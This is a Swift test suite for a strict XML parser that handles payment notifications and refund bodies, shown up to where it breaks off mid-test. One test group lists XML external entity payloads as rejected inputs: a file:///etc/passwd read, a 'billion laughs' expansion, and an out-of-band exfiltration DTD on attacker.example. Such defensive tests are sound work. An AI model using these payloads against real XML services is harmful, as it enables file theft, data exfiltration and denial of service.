import PayhookCore
import PayhookTestSupport
import Testing

// Fixtures copied byte-exact from docs/protocols.md: §4.6 V2-2 (payment notification, 1064 bytes) and
// docs/protocols.md §5 V2-R (decrypted refund `req_info`, 771 bytes).
private let v22Body = "<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid><attach><![CDATA[支付测试]]></attach><bank_type><![CDATA[CFT]]></bank_type><cash_fee><![CDATA[1]]></cash_fee><device_info><![CDATA[]]></device_info><fee_type><![CDATA[CNY]]></fee_type><is_subscribe><![CDATA[Y]]></is_subscribe><mch_id><![CDATA[10000100]]></mch_id><nonce_str><![CDATA[5d2b6c2a8db53831f7eda20af46e531c]]></nonce_str><openid><![CDATA[oUpF8uMEb4qRXf22hE3X68TekukE]]></openid><out_trade_no><![CDATA[1409811653]]></out_trade_no><result_code><![CDATA[SUCCESS]]></result_code><return_code><![CDATA[SUCCESS]]></return_code><time_end><![CDATA[20140903131540]]></time_end><total_fee><![CDATA[101]]></total_fee><coupon_fee><![CDATA[100]]></coupon_fee><coupon_count><![CDATA[1]]></coupon_count><coupon_type_0><![CDATA[CASH]]></coupon_type_0><coupon_id_0><![CDATA[10000]]></coupon_id_0><coupon_fee_0><![CDATA[100]]></coupon_fee_0><trade_type><![CDATA[JSAPI]]></trade_type><transaction_id><![CDATA[1004400740201409030005092168]]></transaction_id><sign><![CDATA[1BD3EFE70A2F57EF61421D3AD5BC4865]]></sign></xml>"
private let v2rPlaintext = "<root><out_refund_no><![CDATA[R20240101000001]]></out_refund_no><out_trade_no><![CDATA[1409811653]]></out_trade_no><refund_account><![CDATA[REFUND_SOURCE_RECHARGE_FUNDS]]></refund_account><refund_fee><![CDATA[101]]></refund_fee><refund_id><![CDATA[50000408942018111907145868882]]></refund_id><refund_recv_accout><![CDATA[支付用户零钱]]></refund_recv_accout><refund_request_source><![CDATA[API]]></refund_request_source><refund_status><![CDATA[SUCCESS]]></refund_status><settlement_refund_fee><![CDATA[1]]></settlement_refund_fee><settlement_total_fee><![CDATA[1]]></settlement_total_fee><success_time><![CDATA[2024-01-01 12:00:05]]></success_time><total_fee><![CDATA[101]]></total_fee><transaction_id><![CDATA[1004400740201409030005092168]]></transaction_id></root>"

private func flatParse(_ text: String, root: String = "xml") throws(FlatXMLError) -> [FlatXMLElement] {
    try FlatXML.parse(Array(text.utf8), root: root)
}

/// The error `parse` throws, or nil when it succeeds.
private func flatFailure(_ bytes: [UInt8], root: String = "xml") -> FlatXMLError? {
    do {
        _ = try FlatXML.parse(bytes, root: root)
        return nil
    } catch {
        return error
    }
}

private func flatFailure(_ text: String, root: String = "xml") -> FlatXMLError? {
    flatFailure(Array(text.utf8), root: root)
}

private func flatElements(_ pairs: KeyValuePairs<String, String>) -> [FlatXMLElement] {
    pairs.map { FlatXMLElement(name: $0.key, text: $0.value) }
}

/// What any successful parse must satisfy, whatever the input was.
private func checkFlatInvariants(_ children: [FlatXMLElement]) {
    #expect(children.count <= FlatXML.maxChildren)
    #expect(Set(children.map(\.name)).count == children.count)
    for child in children {
        #expect(!child.name.isEmpty && child.name.utf8.count <= FlatXML.maxNameLength)
    }
}

@Suite struct FlatXMLAcceptTests {
    @Test func realPaymentNotificationV22() throws {
        #expect(v22Body.utf8.count == 1064)
        let children = try flatParse(v22Body)
        #expect(children == flatElements([
            "appid": "wx2421b1c4370ec43b",
            "attach": "支付测试",
            "bank_type": "CFT",
            "cash_fee": "1",
            "device_info": "",
            "fee_type": "CNY",
            "is_subscribe": "Y",
            "mch_id": "10000100",
            "nonce_str": "5d2b6c2a8db53831f7eda20af46e531c",
            "openid": "oUpF8uMEb4qRXf22hE3X68TekukE",
            "out_trade_no": "1409811653",
            "result_code": "SUCCESS",
            "return_code": "SUCCESS",
            "time_end": "20140903131540",
            "total_fee": "101",
            "coupon_fee": "100",
            "coupon_count": "1",
            "coupon_type_0": "CASH",
            "coupon_id_0": "10000",
            "coupon_fee_0": "100",
            "trade_type": "JSAPI",
            "transaction_id": "1004400740201409030005092168",
            "sign": "1BD3EFE70A2F57EF61421D3AD5BC4865",
        ]))
        #expect(children.count == 23)
    }

    @Test func refundPlaintextV2RWithRootNamedRoot() throws {
        #expect(v2rPlaintext.utf8.count == 771)
        let children = try flatParse(v2rPlaintext, root: "root")
        #expect(children == flatElements([
            "out_refund_no": "R20240101000001",
            "out_trade_no": "1409811653",
            "refund_account": "REFUND_SOURCE_RECHARGE_FUNDS",
            "refund_fee": "101",
            "refund_id": "50000408942018111907145868882",
            "refund_recv_accout": "支付用户零钱",
            "refund_request_source": "API",
            "refund_status": "SUCCESS",
            "settlement_refund_fee": "1",
            "settlement_total_fee": "1",
            "success_time": "2024-01-01 12:00:05",
            "total_fee": "101",
            "transaction_id": "1004400740201409030005092168",
        ]))
        // The same bytes are not a notification: the root name is part of the shape.
        #expect(flatFailure(v2rPlaintext, root: "xml") == .wrongRoot(expected: "xml", found: "root"))
        #expect(flatFailure(v22Body, root: "root") == .wrongRoot(expected: "root", found: "xml"))
    }

    @Test func refundOuterBodyWithPlainReturnCode() throws {
        // docs/protocols.md §5 "outer XML": `return_code` without CDATA, the rest in CDATA.
        let body = "<xml><return_code>SUCCESS</return_code><appid><![CDATA[wx2421b1c4370ec43b]]></appid>"
            + "<mch_id><![CDATA[10000100]]></mch_id><nonce_str><![CDATA[TeqClE3i0mvn3DrK]]></nonce_str>"
            + "<req_info><![CDATA[WBzGpzQuNpcFxIlF/RbYDxgIFt4h1+ChWvVfA2ij==]]></req_info></xml>"
        #expect(try flatParse(body) == flatElements([
            "return_code": "SUCCESS",
            "appid": "wx2421b1c4370ec43b",
            "mch_id": "10000100",
            "nonce_str": "TeqClE3i0mvn3DrK",
            "req_info": "WBzGpzQuNpcFxIlF/RbYDxgIFt4h1+ChWvVfA2ij==",
        ]))
    }

    @Test func integersWithoutCDATA() throws {
        #expect(try flatParse("<xml><total_fee>1</total_fee><cash_fee>101</cash_fee></xml>")
            == flatElements(["total_fee": "1", "cash_fee": "101"]))
    }

    @Test func mixedCharacterDataAndCDATAConcatenate() throws {
        // CDATA content is verbatim: `&amp;` and `<y>` inside it are not decoded or parsed (XML 1.0 §2.7).
        #expect(try flatParse("<xml><a>x<![CDATA[<y>&amp;]]>z&amp;<![CDATA[&xxe;]]></a></xml>")
            == flatElements(["a": "x<y>&amp;z&&xxe;"]))
    }

    @Test(arguments: [" ", "\n", "\r\n\t ", "\u{FEFF}\n"])
    func whitespaceBeforeTheRootIsWellFormed(prefix: String) throws {
        // XML 1.0 §2.8, `prolog ::= XMLDecl? Misc*`: whitespace may precede the root element with or without a
        // declaration, so a body that a conforming parser accepts is not refused here.
        #expect(try flatParse(prefix + "<xml><a>1</a></xml>") == flatElements(["a": "1"]))
        #expect(try flatParse("<?xml version=\"1.0\"?>" + prefix.replacing("\u{FEFF}", with: "") + "<xml><a>1</a></xml>")
            == flatElements(["a": "1"]))
    }

    @Test func whitespaceBetweenElementsIsIgnored() throws {
        // The WxJava #1671 shape: newlines and indentation between elements, and after the root.
        let body = "<xml>\n  <appid><![CDATA[wx2421b1c4370ec43b]]></appid>\n\t<mch_id>10000100</mch_id>\r\n"
            + "  <sign><![CDATA[ABC]]></sign>\n</xml>\n\n"
        #expect(try flatParse(body) == flatElements(["appid": "wx2421b1c4370ec43b", "mch_id": "10000100", "sign": "ABC"]))
    }

    @Test func predefinedEntitiesAndCharacterReferencesAreDecoded() throws {
        let text = "&lt;&gt;&amp;&quot;&apos;|&#65;&#x1F600;&#x4e2d;&#20013;&#x4E2D;&#9;&#0000065;&#x10FFFF;&#xFFFD;"
        #expect(try flatParse("<xml><a>\(text)</a></xml>")
            == flatElements(["a": "<>&\"'|A😀中中中\tA\u{10FFFF}\u{FFFD}"]))
    }

    @Test(arguments: ["<a/>", "<a />", "<a></a>", "<a><![CDATA[]]></a>", "<a\n/>"])
    func emptyElementsHaveEmptyText(element: String) throws {
        #expect(try flatParse("<xml>\(element)<b>1</b></xml>") == flatElements(["a": "", "b": "1"]))
    }

    @Test func textIsKeptExactly() throws {
        // No trimming and no end-of-line normalisation: the signature is over these exact characters.
        #expect(try flatParse("<xml><a> x \r\n y\t</a><b>  </b><c>a>b]]c]</c></xml>")
            == flatElements(["a": " x \r\n y\t", "b": "  ", "c": "a>b]]c]"]))
    }

    @Test func cdataEndsAtTheFirstTerminator() throws {
        #expect(try flatParse("<xml><a><![CDATA[x]]]]></a><b><![CDATA[]]]></b><c><![CDATA[<![CDATA[]]></c></xml>")
            == flatElements(["a": "x]]", "b": "]", "c": "<![CDATA["]))
    }

    @Test func spacesInsideTags() throws {
        #expect(try flatParse("<xml ><a >1</a ><b\t/></xml\n>") == flatElements(["a": "1", "b": ""]))
    }

    @Test(arguments: [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><xml><a>1</a></xml>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml><a>1</a></xml>\n",
        "<?xml version='1.0' encoding='utf-8' standalone='yes' ?>\r\n<xml><a>1</a></xml>",
        "<?xml version = \"1.0\" ?><xml><a>1</a></xml>",
        "<?xml version=\"1.0\" standalone=\"no\"?><xml><a>1</a></xml>",
        "<?xml version=\"1.0\" encoding=\"Utf-8\"?><xml><a>1</a></xml>",
        "\u{FEFF}<?xml version=\"1.0\" encoding=\"UTF-8\"?><xml><a>1</a></xml>",
        "\u{FEFF}<xml><a>1</a></xml>",
    ])
    func declarationAndByteOrderMark(body: String) throws {
        #expect(try flatParse(body) == flatElements(["a": "1"]))
    }

    @Test func rootWithoutChildren() throws {
        #expect(try flatParse("<xml></xml>") == [])
        #expect(try flatParse("<xml/>") == [])
        #expect(try flatParse("<xml>\n</xml>") == [])
    }

    @Test func nameCharacters() throws {
        #expect(try flatParse("<xml><_a-b.c:d9>1</_a-b.c:d9><Z>2</Z></xml>") == flatElements(["_a-b.c:d9": "1", "Z": "2"]))
    }

    @Test func sizeLimitsAreInclusive() throws {
        let name = String(repeating: "n", count: FlatXML.maxNameLength)
        #expect(try flatParse("<xml><\(name)>1</\(name)></xml>") == flatElements([name: "1"]))
        #expect(flatFailure("<xml><\(name)n>1</\(name)n></xml>") == .nameTooLong)

        let many = (0..<FlatXML.maxChildren).map { "<f\($0)>\($0)</f\($0)>" }.joined()
        let children = try flatParse("<xml>\(many)</xml>")
        #expect(children.count == 256)
        #expect(children.last == FlatXMLElement(name: "f255", text: "255"))
        #expect(flatFailure("<xml>\(many)<g/></xml>") == .tooManyElements)
    }
}

@Suite struct FlatXMLEntityAttackTests {
    // docs/protocols.md §3.2, CVE-2018-13439: every DTD is refused before parsing, wherever and however cased.
    @Test(arguments: [
        // External entity, file read (the 2018 WeChat SDK XXE).
        "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><xml><a>&xxe;</a></xml>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
            + "<xml><return_code>&xxe;</return_code></xml>",
        // Internal entity expansion ("billion laughs").
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
            + "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
            + "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
            + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
            + "<!ENTITY lol9 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
            + "]><xml><a>&lol9;</a></xml>",
        // Parameter entity, out-of-band exfiltration.
        "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote; %send;]>"
            + "<xml><a>1</a></xml>",
        // Case variants, positions, hiding places.
        "<!doctype xml><xml><a>1</a></xml>",
        "<!DocType xml SYSTEM \"http://attacker.example/x.dtd\"><xml><a>1</a></xml>",
        "\u{FEFF}<!DOCTYPE xml><xml><a>1</a></xml>",
        "<xml><a>1</a></xml><!DOCTYPE xml>",
        "<xml><a>1</a></xml>\n<!doctype x [<!entity y \"z\">]>",
        "<xml><a><![CDATA[<!DOCTYPE x>]]></a></xml>",
        "<xml><a>1</a><!DOCTYPE xml></xml>",
        // A DTD wins over any other fault in the same body.
        "<!DOCTYPE x>\u{0}\u{1}<xml><a>&unknown;</a>",
    ])
    func doctypeIsRefused(body: String) {
        #expect(flatFailure(body) == .doctype)
    }

    @Test(arguments: [
        "<xml><!ENTITY x \"y\"><a>&x;</a></xml>",
        "<!ENTITY x \"y\"><xml><a>&x;</a></xml>",
        "<xml><a><!entity % p SYSTEM \"file:///etc/passwd\"></a></xml>",
        "<xml><a><![CDATA[<!EnTiTy]]></a></xml>",
    ])
    func entityDeclarationIsRefused(body: String) {
        #expect(flatFailure(body) == .entityDeclaration)
    }

    @Test func doctypeIsFoundEvenNextToInvalidUTF8() {
        #expect(flatFailure(Array("<!DOCTYPE x>".utf8) + [0xFF] + Array("<xml/>".utf8)) == .doctype)
    }

    @Test func undeclaredEntityReferenceIsRefusedNotEmptied() {
        // Without a DTD `&xxe;` names nothing; it must not silently become "" (docs/protocols.md §3.2).
        #expect(flatFailure("<xml><a>&xxe;</a></xml>") == .unknownEntity)
    }
}

@Suite struct FlatXMLRejectTests {
    @Test(arguments: [
        // Empty input and stray content around the root.
        ("", FlatXMLError.emptyInput),
        ("\u{FEFF}", .emptyInput),
        ("x<xml><a>1</a></xml>", .contentBeforeRoot),
        (" x<xml><a>1</a></xml>", .contentBeforeRoot),
        // After whitespace, `<?xml` is no longer the declaration but a reserved processing-instruction target.
        (" <?xml version=\"1.0\"?><xml/>", .processingInstruction),
        ("<![CDATA[x]]><xml/>", .contentBeforeRoot),
        ("<xml><a>1</a></xml>x", .contentAfterRoot),
        ("<xml><a>1</a></xml>\n&amp;", .contentAfterRoot),
        ("<xml/><![CDATA[x]]>", .contentAfterRoot),
        ("<xml><a>1</a></xml><xml><b>2</b></xml>", .secondRoot),
        ("<xml><a>1</a></xml>\n<a>2</a>", .secondRoot),
        ("<?xml version=\"1.0\"?>", .truncated),
        // Text directly inside the root.
        ("<xml>x<a>1</a></xml>", .textInRoot),
        ("<xml><a>1</a>x</xml>", .textInRoot),
        ("<xml><a>1</a> \u{A0} </xml>", .textInRoot),
        ("<xml>&amp;<a>1</a></xml>", .textInRoot),
        ("<xml><![CDATA[x]]><a>1</a></xml>", .textInRoot),
        // End tags.
        ("<xml><a>1</b></xml>", .mismatchedEndTag),
        ("<xml><a>1</A></xml>", .mismatchedEndTag),
        ("<xml><a>1</a></xmll>", .mismatchedEndTag),
        ("<xml><a>1</a></XML>", .mismatchedEndTag),
        ("<xml><a>1</xml>", .mismatchedEndTag),
        ("</xml>", .strayEndTag),
        ("<xml><a>1</a>", .truncated),
        ("<xml><a>1", .truncated),
        ("<xml><a>1</a", .truncated),
        ("<xml><a/x></xml>", .malformedTag),
        ("<xml><a>1</a x></xml>", .malformedTag),
        ("<xml><a>1</a></xml x>", .malformedTag),
        // Character data rules (XML 1.0 §2.4).
        ("<xml><a>]]></a></xml>", .cdataEndInText),
        ("<xml><a><![CDATA[x</a></xml>", .truncated),
        ("<xml><a><![CDATA[x]]</a></xml>", .truncated),
        // Root name and attributes.
        ("<root><a>1</a></root>", .wrongRoot(expected: "xml", found: "root")),
        ("<XML><a>1</a></XML>", .wrongRoot(expected: "xml", found: "XML")),
        ("<xml:x><a>1</a></xml:x>", .wrongRoot(expected: "xml", found: "xml:x")),
        ("<xml a=\"1\"><b>1</b></xml>", .attributes(element: "xml")),
        ("<xml xmlns=\"urn:x\"><b>1</b></xml>", .attributes(element: "xml")),
        ("<xml><a b=\"1\">1</a></xml>", .attributes(element: "a")),
        ("<xml><a b='1'/></xml>", .attributes(element: "a")),
        ("<xml><a b>1</a></xml>", .attributes(element: "a")),
        // Nesting: an element, or a raw `<`, inside a child.
        ("<xml><a><b>1</b></a></xml>", .nested(element: "a")),
        ("<xml><a>1 < 2</a></xml>", .nested(element: "a")),
        ("<xml><a>x<![CDATA[y]]><b/></a></xml>", .nested(element: "a")),
        ("<xml><a><xml>1</xml></a></xml>", .nested(element: "a")),
        // Duplicates.
        ("<xml><a>1</a><a>1</a></xml>", .duplicate(element: "a")),
        ("<xml><sign>A</sign><b/><sign/></xml>", .duplicate(element: "sign")),
        // Comments, other `<!` constructs, processing instructions.
        ("<xml><!-- c --><a>1</a></xml>", .comment),
        ("<xml><a><!-- c -->1</a></xml>", .comment),
        ("<!-- c --><xml><a>1</a></xml>", .comment),
        ("<xml><a>1</a></xml><!-- c -->", .comment),
        ("<xml><!ELEMENT a ANY><a>1</a></xml>", .unsupportedMarkup),
        ("<xml><a><!ATTLIST a b CDATA #IMPLIED>1</a></xml>", .unsupportedMarkup),
        ("<!NOTATION x SYSTEM \"y\"><xml/>", .unsupportedMarkup),
        ("<xml><a><![INCLUDE[x]]></a></xml>", .unsupportedMarkup),
        ("<xml><?pi x?><a>1</a></xml>", .processingInstruction),
        ("<xml><a><?pi?>1</a></xml>", .processingInstruction),
        ("<?pi?><xml><a>1</a></xml>", .processingInstruction),
        ("<?xml-stylesheet href=\"a\"?><xml><a>1</a></xml>", .processingInstruction),
        ("<?xml version=\"1.0\"?><?xml version=\"1.0\"?><xml/>", .processingInstruction),
        ("<xml><a>1</a></xml><?pi?>", .processingInstruction),
        // The XML declaration.
        ("<?xml version=\"1.0\" encoding=\"GBK\"?><xml><a>1</a></xml>", .unsupportedEncoding),
        ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><xml><a>1</a></xml>", .unsupportedEncoding),
        ("<?xml version=\"1.0\" encoding=\"UTF8\"?><xml><a>1</a></xml>", .unsupportedEncoding),
        ("<?xml version=\"1.0\" encoding=\"\"?><xml><a>1</a></xml>", .unsupportedEncoding),
        ("<?xml version=\"1.1\"?><xml/>", .badDeclaration),
        ("<?xml?><xml/>", .badDeclaration),
        ("<?xml ?><xml/>", .badDeclaration),
        ("<?xml encoding=\"UTF-8\"?><xml/>", .badDeclaration),
        ("<?xml version=\"1.0\"encoding=\"UTF-8\"?><xml/>", .badDeclaration),
        ("<?xml version=\"1.0\" standalone=\"maybe\"?><xml/>", .badDeclaration),
        ("<?xml version=\"1.0\" standalone=\"yes\" encoding=\"UTF-8\"?><xml/>", .badDeclaration),
        ("<?xml version=\"1.0\" foo=\"bar\"?><xml/>", .badDeclaration),
        ("<?xml version=\"1.0'?><xml/>", .badDeclaration),
        ("<?xml version=1.0?><xml/>", .badDeclaration),
        ("<?xml version=\"1.0\">", .badDeclaration),
        ("<?xml", .badDeclaration),
        // Names.
        ("<xml><1a>1</1a></xml>", .invalidName),
        ("<xml><-a>1</-a></xml>", .invalidName),
        ("<xml><:a>1</:a></xml>", .invalidName),
        ("<xml><支付>1</支付></xml>", .invalidName),
        ("<xml><a支付>1</a支付></xml>", .invalidName),
        ("<xml><a\"b\">1</a></xml>", .invalidName),
        ("<xml><>1</></xml>", .invalidName),
        ("<xml>< a>1</a></xml>", .invalidName),
        ("<1xml/>", .invalidName),
        // References (XML 1.0 §4.1, §4.6).
        ("<xml><a>&nbsp;</a></xml>", .unknownEntity),
        ("<xml><a>&LT;</a></xml>", .unknownEntity),
        ("<xml><a>&ampx;</a></xml>", .unknownEntity),
        ("<xml><a>a & b</a></xml>", .invalidReference),
        ("<xml><a>&amp</a></xml>", .invalidReference),
        ("<xml><a>&;</a></xml>", .invalidReference),
        ("<xml><a>&#;</a></xml>", .invalidReference),
        ("<xml><a>&#x;</a></xml>", .invalidReference),
        ("<xml><a>&#X41;</a></xml>", .invalidReference),
        ("<xml><a>&#12a;</a></xml>", .invalidReference),
        ("<xml><a>&#65</a></xml>", .invalidReference),
        ("<xml><a>&#0;</a></xml>", .invalidReference),
        ("<xml><a>&#x0;</a></xml>", .invalidReference),
        ("<xml><a>&#1;</a></xml>", .invalidReference),
        ("<xml><a>&#x1B;</a></xml>", .invalidReference),
        ("<xml><a>&#xD800;</a></xml>", .invalidReference),
        ("<xml><a>&#xDFFF;</a></xml>", .invalidReference),
        ("<xml><a>&#xFFFE;</a></xml>", .invalidReference),
        ("<xml><a>&#x110000;</a></xml>", .invalidReference),
        ("<xml><a>&#99999999999999999999999999;</a></xml>", .invalidReference),
        ("<xml><a>&#xFFFFFFFFFFFFFFFFFFFF41;</a></xml>", .invalidReference),
        ("<xml><a>&", .truncated),
        ("<xml><a>&#12", .truncated),
        // Characters that are not XML 1.0 `Char`s (XML 1.0 §2.2), anywhere.
        ("<xml><a>\u{0}</a></xml>", .illegalCharacter),
        ("<xml><a>1</a>\u{0}</xml>", .illegalCharacter),
        ("\u{0}<xml/>", .illegalCharacter),
        ("<xml><a>\u{1}</a></xml>", .illegalCharacter),
        ("<xml><a>\u{7}</a></xml>", .illegalCharacter),
        ("<xml><a>\u{1B}[31m</a></xml>", .illegalCharacter),
        ("<xml><a>\u{1F}</a></xml>", .illegalCharacter),
        ("<xml><a>\u{FFFE}</a></xml>", .illegalCharacter),
        ("<xml><a>\u{FFFF}</a></xml>", .illegalCharacter),
        ("<xml/>\u{C}", .illegalCharacter),
    ])
    func refused(body: String, expected: FlatXMLError) {
        #expect(flatFailure(body) == expected)
    }

    @Test(arguments: [
        [0xC0, 0xAF],  // overlong "/"
        [0xC1, 0xBF],  // overlong
        [0xE0, 0x80, 0xAF],  // overlong, 3 bytes
        [0xE0, 0x9F, 0xBF],  // overlong, 3 bytes (below U+0800)
        [0xF0, 0x80, 0x80, 0xAF],  // overlong, 4 bytes
        [0xF0, 0x8F, 0xBF, 0xBF],  // overlong, 4 bytes (below U+10000)
        [0xED, 0xA0, 0x80],  // surrogate U+D800
        [0xED, 0xBF, 0xBF],  // surrogate U+DFFF
        [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80],  // CESU-8 surrogate pair
        [0xE6, 0x94],  // truncated 3-byte sequence
        [0xF0, 0x9F, 0x98],  // truncated 4-byte sequence
        [0x80],  // lone continuation byte
        [0xBF],
        [0xC3, 0x28],  // bad continuation
        [0xE6, 0x94, 0x28],
        [0xF0, 0x9F, 0x28, 0x80],
        [0xF4, 0x90, 0x80, 0x80],  // above U+10FFFF
        [0xF5, 0x80, 0x80, 0x80],
        [0xF8, 0x88, 0x80, 0x80, 0x80],  // 5-byte form
        [0xFE],
        [0xFF],
    ] as [[UInt8]])
    func invalidUTF8IsRefused(sequence: [UInt8]) {
        let open = Array("<xml><a>".utf8)
        let close = Array("</a></xml>".utf8)
        #expect(flatFailure(open + sequence + close) == .notUTF8)
        // At the very end, inside a name, and before the root too.
        #expect(flatFailure(open + sequence) == .notUTF8)
        #expect(flatFailure(Array("<xml><a".utf8) + sequence + Array(">1</a></xml>".utf8)) == .notUTF8)
        #expect(flatFailure(sequence + Array("<xml/>".utf8)) == .notUTF8)
    }

    @Test func utf16IsRefused() {
        // The same document in UTF-16LE, with and without a BOM.
        let utf16 = Array("<xml><a>1</a></xml>".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        #expect(flatFailure([0xFF, 0xFE] + utf16) == .notUTF8)
        #expect(flatFailure(utf16) == .illegalCharacter)
    }

    @Test func boundaryScalarsAreAccepted() throws {
        // Highest scalars of each UTF-8 length, and the last XML characters before the excluded ranges.
        let text = "\u{7F}\u{80}\u{7FF}\u{800}\u{D7FF}\u{E000}\u{FFFD}\u{10000}\u{10FFFF}"
        #expect(try flatParse("<xml><a>\(text)</a></xml>") == flatElements(["a": text]))
    }

    @Test func everyPrefixOfTheRealBodyIsRefused() {
        let body = Array(v22Body.utf8)
        for length in 0..<body.count {
            #expect(flatFailure(Array(body[..<length])) != nil, "prefix of \(length) bytes was accepted")
        }
        #expect(flatFailure(body) == nil)
    }

    @Test func everyPrefixOfTheRefundPlaintextIsRefused() {
        let body = Array(v2rPlaintext.utf8)
        for length in 0..<body.count {
            #expect(flatFailure(Array(body[..<length]), root: "root") != nil, "prefix of \(length) bytes was accepted")
        }
    }

    @Test func randomBytesNeverTrap() {
        var rng = SeededGenerator(state: 0x5EED_0001)
        for _ in 0..<4000 {
            let length = Int.random(in: 0...300, using: &rng)
            let bytes = (0..<length).map { _ in UInt8.random(in: 0...255, using: &rng) }
            if let children = try? FlatXML.parse(bytes, root: "xml") { checkFlatInvariants(children) }
        }
    }

    @Test func randomTokenSoupNeverTraps() {
        // Random sequences of XML-ish tokens reach far deeper into the reader than random bytes.
        let tokens = [
            "<", ">", "/", "</", "/>", "<xml>", "</xml>", "<a>", "</a>", "<b>", "</b>", "<a/>", "xml", "a", "b",
            "<![CDATA[", "]]>", "]", "[", "&", ";", "&amp;", "&#", "&#x", "1F600", "65", "lt", "<!--", "-->", "<!",
            "<?", "?>", "<?xml version=\"1.0\"?>", "encoding=\"UTF-8\"", " ", "\n", "\t", "=", "\"", "'", "支付",
            "\u{0}", "\u{FEFF}", "DOCTYPE", "ENTITY", "x", "9",
        ].map { Array($0.utf8) }
        var rng = SeededGenerator(state: 0x5EED_0002)
        var accepted = 0
        for _ in 0..<4000 {
            var bytes: [UInt8] = []
            for _ in 0..<Int.random(in: 0...40, using: &rng) {
                bytes += tokens[Int.random(in: 0..<tokens.count, using: &rng)]
            }
            if let children = try? FlatXML.parse(bytes, root: "xml") {
                checkFlatInvariants(children)
                accepted += 1
            }
        }
        // Not a property, just a sign the soup exercised both outcomes.
        #expect(accepted < 4000)
    }

    @Test func mutatedRealBodiesNeverTrap() {
        let body = Array(v22Body.utf8)
        let interesting: [UInt8] = [0x00, 0x26, 0x2F, 0x3C, 0x3E, 0x5D, 0x21, 0x3F, 0x20, 0x0A, 0x80, 0xE6, 0xFF]
        var rng = SeededGenerator(state: 0x5EED_0003)
        for _ in 0..<3000 {
            var bytes = body
            for _ in 0..<Int.random(in: 1...6, using: &rng) {
                let at = Int.random(in: 0..<bytes.count, using: &rng)
                switch Int.random(in: 0..<4, using: &rng) {
                case 0: bytes[at] = UInt8.random(in: 0...255, using: &rng)
                case 1: bytes[at] = interesting[Int.random(in: 0..<interesting.count, using: &rng)]
                case 2: if bytes.count > 1 { bytes.remove(at: at) }
                default: bytes.insert(interesting[Int.random(in: 0..<interesting.count, using: &rng)], at: at)
                }
            }
            if let children = try? FlatXML.parse(bytes, root: "xml") { checkFlatInvariants(children) }
        }
    }
}

@Suite struct FlatXMLDescriptionTests {
    private static let hostile = String(repeating: "\u{1B}[31m\r\n\u{0}支付'\"", count: 200)

    @Test(arguments: [
        FlatXMLError.notUTF8, .illegalCharacter, .doctype, .entityDeclaration, .processingInstruction, .comment,
        .unsupportedMarkup, .badDeclaration, .unsupportedEncoding, .invalidName, .nameTooLong, .tooManyElements,
        .unknownEntity, .invalidReference, .truncated, .emptyInput, .contentBeforeRoot, .textInRoot, .secondRoot,
        .contentAfterRoot, .mismatchedEndTag, .strayEndTag, .malformedTag, .cdataEndInText,
        .wrongRoot(expected: "xml", found: "root"),
        .wrongRoot(expected: hostile, found: hostile),
        .attributes(element: hostile),
        .nested(element: hostile),
        .duplicate(element: hostile),
        .malformed(hostile),
        .duplicate(element: ""),
    ])
    func descriptionIsShortPrintableASCII(error: FlatXMLError) {
        let text = error.description
        #expect(!text.isEmpty)
        #expect(text.count < 120, "\(text.count) characters")
        #expect(text.unicodeScalars.allSatisfy { $0.value >= 0x20 && $0.value < 0x7F })
    }

    @Test func namesFromTheBodyAreShortenedInDescriptions() throws {
        let long = String(repeating: "k", count: FlatXML.maxNameLength)
        let error = try #require(flatFailure("<xml><\(long)/><\(long)/></xml>"))
        #expect(error == .duplicate(element: long))
        #expect(error.description == "element 'kkkkkkkkkkkkkkkkkkkkkkkk...' appears more than once")
        let root = try #require(flatFailure("<\(long)/>"))
        #expect(root.description.count < 120)
    }

    @Test func descriptionsNameTheElement() {
        #expect(FlatXMLError.duplicate(element: "sign").description == "element 'sign' appears more than once")
        #expect(FlatXMLError.wrongRoot(expected: "xml", found: "root").description
            == "root element is 'root' but 'xml' was expected")
        #expect(FlatXMLError.nested(element: "a\nb").description.contains("'a?b'"))
    }
}

@Suite struct FlatXMLLinearityTests {
    private static let megabyte = 1 << 20

    @Test func megabyteOfWhitespaceBetweenElements() throws {
        let gap = String(repeating: " \t\r\n", count: Self.megabyte / 4 / 200)
        var body = "<xml>"
        for k in 0..<200 { body += gap + "<k\(k)>v\(k)</k\(k)>" }
        body += gap + "</xml>" + gap
        #expect(body.utf8.count > Self.megabyte)
        let children = try flatParse(body)
        #expect(children.count == 200)
        #expect(children.first == FlatXMLElement(name: "k0", text: "v0"))
        #expect(children.last == FlatXMLElement(name: "k199", text: "v199"))
    }

    @Test func megabyteOfShortElementsStopsAtTheLimit() {
        var body = "<xml>"
        var k = 0
        while body.utf8.count < Self.megabyte {
            body += "<e\(k)/>"
            k += 1
        }
        #expect(flatFailure(body + "</xml>") == .tooManyElements)
    }

    @Test func megabyteOfReferencesAndCDATA() throws {
        let references = String(repeating: "&amp;&#x4e2d;", count: Self.megabyte / 13)
        let brackets = String(repeating: "]", count: Self.megabyte)
        let children = try flatParse("<xml><a>\(references)</a><b><![CDATA[\(brackets)]]></b></xml>")
        #expect(children.count == 2)
        #expect(children.first?.text == String(repeating: "&中", count: Self.megabyte / 13))
        #expect(children.last?.text == brackets)
    }

    @Test func megabyteOfHostileRepetition() throws {
        let m = Self.megabyte
        #expect(flatFailure("<xml><" + String(repeating: "a", count: m) + "/></xml>") == .nameTooLong)
        #expect(flatFailure("<xml><a>&#" + String(repeating: "9", count: m) + ";</a></xml>") == .invalidReference)
